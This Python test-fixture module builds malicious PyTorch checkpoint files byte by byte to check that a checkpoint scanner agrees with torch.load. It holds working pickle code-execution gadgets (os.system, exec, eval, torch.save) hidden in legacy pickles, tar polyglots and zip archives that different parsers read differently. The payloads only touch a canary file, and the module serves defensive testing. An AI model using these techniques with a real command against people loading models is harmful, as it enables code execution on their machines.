"""Files built as an attacker would, to make ``torch.load`` and ``ckptkeys.read`` disagree.

Each case is a file whose payload creates a canary file when ``torch.load(f, weights_only=False)``
(torch 2.13) runs it, in one of the four families of issue 12: globals the real unpickler resolves
differently (dotted names, Python 2 names, torch's own gadgets), the legacy format's five pickles,
tar polyglots, and zip archives miniz and ``zipfile`` read differently. ``runs`` says whether
torch runs the payload (checked against torch itself in tests/test_security_torch.py; ``None``
where it depends on torch's internals). Built by hand, byte by byte: no torch needed.
"""

from __future__ import annotations

import functools
import io
import pickle
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["Case", "build_cases"]

MAGIC = 0x1950A86A20F9469CFC6C  # torch's legacy MAGIC_NUMBER


@dataclass(frozen=True)
class Case:
    name: str
    family: str
    data: bytes
    canary: str
    runs: bool | None


# -- pickles -------------------------------------------------------------------------------------


def _text(value: str) -> bytes:
    return b"V" + value.encode("raw-unicode-escape") + b"\n"  # UNICODE: valid under every protocol


def _proto(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol]) if protocol else b""


def _call(module: str, name: str, *args: str, protocol: int = 2, stack: bool = False) -> bytes:
    """A pickle body (no PROTO, no STOP) that calls module.name(*args)."""
    if stack:
        m, n = module.encode(), name.encode()
        target = b"\x8c" + bytes([len(m)]) + m + b"\x8c" + bytes([len(n)]) + n + b"\x93"
    else:
        target = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    return target + b"(" + b"".join(_text(a) for a in args) + b"tR"


def _touch(path: str) -> str:
    return f"touch '{path}'"


def payloads(canary: str) -> dict[str, tuple[bytes, bool]]:
    """Family 1: pickles (with STOP) that create ``canary`` under torch.load's unpickler."""
    cmd = _touch(canary)
    inner = _call("os", "system", cmd) + b"."
    return {
        "dotted-global-p4": (_proto(4) + _call("torch", "os.system", cmd) + b".", True),
        "dotted-stack-global-p4": (
            _proto(4) + _call("torch._utils", "torch.os.system", cmd, stack=True) + b".",
            True,
        ),
        "import-dotted-name": (
            _proto(2) + b"ctorch._utils\n_import_dotted_name\n(" + _text("os.system") + b"tR(" + _text(cmd) + b"tR.",
            True,
        ),
        "torch-save-writes": (_proto(2) + b"ctorch\nsave\n(I0\n" + _text(canary) + b"tR.", True),
        "py2-commands-getoutput": (_proto(2) + _call("commands", "getoutput", cmd) + b".", True),
        "py2-cpickle-loads": (
            _proto(2) + b"ccPickle\nloads\n(C" + bytes([len(inner)]) + inner + b"tR.",
            True,
        ),
        "pickle-loads-p4": (_proto(4) + b"c_pickle\nloads\n(C" + bytes([len(inner)]) + inner + b"tR.", True),
        "py2-builtin-eval-p0": (_call("__builtin__", "eval", f"__import__('os').system(\"{cmd}\")") + b".", True),
        "protocol-switch": (_proto(4) + _proto(2) + _call("commands", "getoutput", cmd) + b".", True),
        "builtins-exec-stack": (
            _proto(4) + _call("builtins", "exec", f"__import__('os').system(\"{cmd}\")", stack=True) + b".",
            True,
        ),
    }


# -- torch's zip format --------------------------------------------------------------------------


def _local(name: bytes, data: bytes, *, method: int = 0, crc: int | None = None, version: int = 20,
           local_name: bytes | None = None, raw: bytes | None = None) -> bytes:  # fmt: skip
    stored = raw if raw is not None else data
    crc = zlib.crc32(data) if crc is None else crc
    written = local_name if local_name is not None else name
    return (
        struct.pack("<4s5H3L2H", b"PK\x03\x04", version, 0, method, 0, 0, crc, len(stored), len(data), len(written), 0)
        + written
        + stored
    )


def _central(name: bytes, data: bytes, offset: int, *, method: int = 0, crc: int | None = None, version: int = 20,
             raw: bytes | None = None) -> bytes:  # fmt: skip
    stored = raw if raw is not None else data
    crc = zlib.crc32(data) if crc is None else crc
    return (
        struct.pack(
            "<4s4B4HL2L5H2L",
            b"PK\x01\x02",
            20,
            0,
            version,
            0,
            0,
            method,
            0,
            0,
            crc,
            len(stored),
            len(data),
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )


def _end(entries: int, size: int, offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, size, offset, 0)


def _records(pkl: bytes, folder: bytes = b"archive") -> list[tuple[bytes, bytes]]:
    return [(folder + b"/data.pkl", pkl), (folder + b"/byteorder", b"little"), (folder + b"/version", b"3\n")]


def zip_archive(members: list[tuple[bytes, bytes]], **options: object) -> bytes:
    """A zip written member by member; options apply to the data.pkl member (method, crc, version, local_name)."""
    out = bytearray()
    central = bytearray()
    for name, data in members:
        these = options if name.lower().endswith(b"data.pkl") else {}
        raw = None
        if these.get("method") == 8:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            raw = packer.compress(data) + packer.flush()
        local = {k: v for k, v in these.items() if k in ("method", "crc", "version", "local_name")}
        offset = len(out)
        out += _local(name, data, raw=raw, **local)  # type: ignore[arg-type]
        central += _central(name, data, offset, raw=raw, **{k: v for k, v in local.items() if k != "local_name"})  # type: ignore[arg-type]
    return bytes(out + central + _end(len(members), len(central), len(out)))


def _write_locals(out: bytearray, members: list[tuple[bytes, bytes]]) -> list[int]:
    """Append each member's local header and data to ``out``; their offsets."""
    offsets = []
    for name, data in members:
        offsets.append(len(out))
        out += _local(name, data)
    return offsets


def _concat(payload: bytes, benign: bytes) -> bytes:
    """Two central directories: miniz follows the end record's offset (payload), zipfile shifts to the other."""
    p_members, b_members = _records(payload), _records(benign)
    out = bytearray()
    p_offsets = _write_locals(out, p_members)
    out += b"\0" * 4096  # room, so the shifted offsets stay inside the file
    b_offsets = _write_locals(out, b_members)
    p_dir = b"".join(_central(n, d, o) for (n, d), o in zip(p_members, p_offsets, strict=True))
    size = len(p_dir)
    p_at = len(out)
    shift = size  # zipfile: concat = end_at - size - offset = size
    b_dir = b"".join(_central(n, d, o - shift) for (n, d), o in zip(b_members, b_offsets, strict=True))
    assert len(b_dir) == size
    return bytes(out + p_dir + b_dir + _end(len(p_members), size, p_at))


def _zip64_twice(payload: bytes, benign: bytes) -> bytes:
    """Two ZIP64 end records: miniz follows the locator (payload), zipfile reads the one before it."""
    p_members, b_members = _records(payload), _records(benign)
    out = bytearray()
    p_offsets = _write_locals(out, p_members)
    b_offsets = _write_locals(out, b_members)
    p_dir_at = len(out)
    out += b"".join(_central(n, d, o) for (n, d), o in zip(p_members, p_offsets, strict=True))
    b_dir_at = len(out)
    out += b"".join(_central(n, d, o) for (n, d), o in zip(b_members, b_offsets, strict=True))
    size = b_dir_at - p_dir_at

    def record(at: int) -> bytes:
        return struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 3, 3, size, at)

    p_record_at = len(out)
    out += record(p_dir_at)
    out += record(b_dir_at)
    out += struct.pack("<4sLQL", b"PK\x06\x07", 0, p_record_at, 1)
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return bytes(out)


# -- legacy and tar ------------------------------------------------------------------------------

_SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def legacy(*, magic: bytes | None = None, version: bytes | None = None, sys_info: bytes | None = None,
           main: bytes | None = None, keys: bytes | None = None) -> bytes:  # fmt: skip
    return (
        (magic or pickle.dumps(MAGIC, 2))
        + (version or pickle.dumps(1001, 2))
        + (sys_info or pickle.dumps(_SYS_INFO, 2))
        + (main or pickle.dumps({"benign": 1}, 2))
        + (keys or pickle.dumps([], 2))
    )


def _framed_magic(payload: bytes) -> bytes:
    """A magic-number pickle whose FRAME holds a benign rest of the file; the payload follows the frame."""
    benign_rest = legacy()[len(pickle.dumps(MAGIC, 2)) :]
    body = b"\x8a\x0a" + MAGIC.to_bytes(10, "little") + b"."
    inside = body + benign_rest
    inside += b"\0" * (200_000 - len(inside))  # larger than any read-ahead: C pickle reads the frame whole
    after = legacy(version=payload)[len(pickle.dumps(MAGIC, 2)) :]
    return b"\x80\x04\x95" + struct.pack("<Q", len(inside)) + inside + after


def _tar_polyglot(payload: bytes) -> bytes:
    """A tar whose first member's name is a whole benign legacy checkpoint; 'storages' holds the payload."""
    benign = legacy(sys_info=b"\x80\x02}.", main=b"\x80\x02}.", keys=b"\x80\x02].")  # no memo: no NUL
    assert len(benign) < 100 and b"\0" not in benign
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in ((benign.decode("utf-8", "surrogateescape"), b""), ("storages", payload),
                           ("tensors", pickle.dumps(0, 2)), ("pickle", pickle.dumps({}, 2))):  # fmt: skip
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    data = out.getvalue()
    assert data.startswith(benign)
    return data


def _zip_payload(label: str, canary: str) -> bytes:
    return zip_archive(_records(payloads(canary)[label][0]))


def _legacy_payload(label: str, canary: str) -> bytes:
    return legacy(main=payloads(canary)[label][0])


def build_cases(canaries: str) -> list[Case]:
    """Every case, each with its own canary path under the folder ``canaries``."""
    cases: list[Case] = []

    def add(name: str, family: str, runs: bool | None, make: Callable[[str], bytes]) -> None:
        canary = f"{canaries}/{name}"
        cases.append(Case(name, family, make(canary), canary, runs))

    # 1. globals, in data.pkl of an ordinary torch zip and in the legacy format's object pickle
    for label in payloads("x"):
        add(f"zip-{label}", "globals", True, functools.partial(_zip_payload, label))
        add(f"legacy-{label}", "globals", True, functools.partial(_legacy_payload, label))
    benign = pickle.dumps({"benign": 1}, 2)

    def plain(canary: str) -> bytes:
        return _proto(2) + _call("os", "system", _touch(canary)) + b"."

    # 2. legacy: every pickle torch runs, frames, any first byte
    add("legacy-in-magic", "legacy", True, lambda c: legacy(magic=plain(c)))
    add("legacy-in-version", "legacy", True, lambda c: legacy(version=plain(c)))
    add("legacy-in-sys-info", "legacy", True, lambda c: legacy(sys_info=plain(c)))
    add("legacy-in-storage-keys", "legacy", True, lambda c: legacy(keys=plain(c)))
    add("legacy-frame-past-stop", "legacy", True, lambda c: _framed_magic(plain(c)))
    add("legacy-protocol-0-first", "legacy", True, lambda c: _call("os", "system", _touch(c)) + b"." + legacy())
    # the magic number and protocol version as values only running the pickle gives: torch compares
    # what they are and reads on to the object pickle
    computed_magic = _proto(2) + b"cbuiltins\nint\n(" + _text(f"{MAGIC:x}") + b"K\x10tR."
    add("legacy-magic-computed", "legacy", True, lambda c: legacy(magic=computed_magic, main=plain(c)))
    magic_global = _proto(2) + b"ctorch.serialization\nMAGIC_NUMBER\n."
    add("legacy-magic-global", "legacy", True, lambda c: legacy(magic=magic_global, main=plain(c)))
    computed_version = _proto(2) + b"cbuiltins\nint\n(" + _text("1001") + b"tR."
    add("legacy-version-computed", "legacy", True, lambda c: legacy(version=computed_version, main=plain(c)))
    # protocol-0 INT as C pickle reads it (strtol, base 0): hexadecimal and octal literals
    hex_magic = f"I{MAGIC:#x}\n.".encode()
    add("legacy-magic-hex", "legacy", True, lambda c: legacy(magic=hex_magic, main=plain(c)))
    add("legacy-version-octal", "legacy", True, lambda c: legacy(version=b"I01751\n.", main=plain(c)))
    # 3. tar
    add("tar-polyglot", "tar", True, lambda c: _tar_polyglot(plain(c)))
    add("tar-plain", "tar", True, lambda c: _tar_only(plain(c)))
    # 4. zip
    add("zip-concat", "zip", True, lambda c: _concat(plain(c), benign))
    add("zip-two-zip64-records", "zip", True, lambda c: _zip64_twice(plain(c), benign))
    add("zip-case-twins", "zip", None,
        lambda c: zip_archive([*_records(benign), (b"archive/DATA.PKL", plain(c))]))  # fmt: skip
    add("zip-case-only", "zip", True,
        lambda c: zip_archive([(b"archive/version", b"3\n"), (b"archive/DATA.Pkl", plain(c)),
                               (b"archive/byteorder", b"little")]))  # fmt: skip
    add("zip-bad-crc", "zip", True, lambda c: zip_archive(_records(plain(c)), crc=12345))
    add("zip-local-name-differs", "zip", True,
        lambda c: zip_archive(_records(plain(c)), local_name=b"archive/data.pkx"))  # fmt: skip
    add("zip-version-needed-9.9", "zip", True, lambda c: zip_archive(_records(plain(c)), version=99))
    add("zip-trailing-end-signature", "zip", True, lambda c: zip_archive(_records(plain(c))) + b"PK\x05\x06")
    add("zip-deflated", "zip", True, lambda c: zip_archive(_records(plain(c)), method=8))
    # torch refuses a member outside the first member's folder, and so does ckptkeys
    add("zip-first-member-folder", "zip", False,
        lambda c: zip_archive([(b"b/version", b"3\n"), (b"a/data.pkl", benign), (b"b/data.pkl", plain(c)),
                               (b"b/byteorder", b"little")]))  # fmt: skip
    return cases


def _tar_only(payload: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (("storages", payload), ("tensors", pickle.dumps(0, 2)), ("pickle", pickle.dumps({}, 2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()
